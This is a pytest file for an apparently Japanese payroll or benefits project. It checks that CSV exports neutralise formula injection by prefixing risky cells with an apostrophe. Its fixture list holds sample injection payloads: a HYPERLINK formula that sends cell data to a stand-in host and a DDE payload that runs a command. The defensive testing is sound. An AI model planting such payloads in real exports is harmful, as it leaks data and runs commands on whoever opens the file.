"""kosmo.spreadsheets: no cell of an export runs as a formula when opened in Excel."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from kosmo.imports import ImportResult, Rejection, write_rejections_csv
from kosmo.spreadsheets import FORMULA_STARTS, csv_writer, safe_cell

# What people have typed into names, reasons and import files to attack a spreadsheet
# (OWASP "CSV Injection"), each with the cell the export must hold instead.
ATTACKS = [
    (
        '=HYPERLINK("https://evil.example/?d="&A1,"詳細")',
        '\'=HYPERLINK("https://evil.example/?d="&A1,"詳細")',
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\tX", "'\tX"),
    ("\rX", "'\rX"),
]


@pytest.mark.parametrize(("value", "neutralised"), ATTACKS)
def test_text_opening_with_a_formula_character_gets_an_apostrophe(value, neutralised):
    assert safe_cell(value) == neutralised


@pytest.mark.parametrize("value", ["山田 太郎", "1001", "", "a=b", "'=already text", "－全角"])
def test_ordinary_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-1200", "-1,200", "+81", "-0.5", "-1,234,567.89"])
def test_text_that_is_only_a_number_stays_a_number(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-1200, Decimal("-12.5"), None, 0])
def test_numbers_and_none_pass_untouched(value):
    assert safe_cell(value) is value


def test_the_writer_quotes_every_cell_and_reads_back_neutralised():
    out = io.StringIO()

    csv_writer(out).writerows([[value, -1200] for value, _ in ATTACKS])

    raw = out.getvalue()
    assert raw.splitlines()[0].startswith("\"'=HYPERLINK(")  # quoted: no ; or , escapes
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows == [[neutralised, "-1200"] for _, neutralised in ATTACKS]


def test_rejected_rows_report_neutralises_the_files_values(tmp_path):
    result = ImportResult(
        file_name="benefits.csv",
        header=["氏名", "支給金額"],
        rejections=[
            Rejection(line=line, reasons=["@SUM(1+1)"], row={"氏名": value, "支給金額": "-1200"})
            for line, (value, _) in enumerate(ATTACKS, start=2)
        ],
    )
    path = tmp_path / "errors.csv"

    write_rejections_csv(result, path)

    with open(path, encoding="utf-8-sig", newline="") as written:
        [header, *rows] = list(csv.reader(written))
    assert header == ["行番号", "理由", "氏名", "支給金額"]
    assert rows == [
        [str(line), "'@SUM(1+1)", neutralised, "-1200"]
        for line, (_, neutralised) in enumerate(ATTACKS, start=2)
    ]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row[1:3])


def test_every_csv_the_project_writes_goes_through_the_helper():
    # bench/ writes synthetic input files for the benchmarks, not exports.
    root = Path(__file__).resolve().parents[2]
    sources = [
        path
        for path in root.glob("*/**/*.py")
        if path.parts[len(root.parts)] not in {".venv", "tests", "bench"}
    ]
    writers = [
        path.relative_to(root).as_posix()
        for path in sources
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]

    assert writers == ["kosmo/spreadsheets.py"]
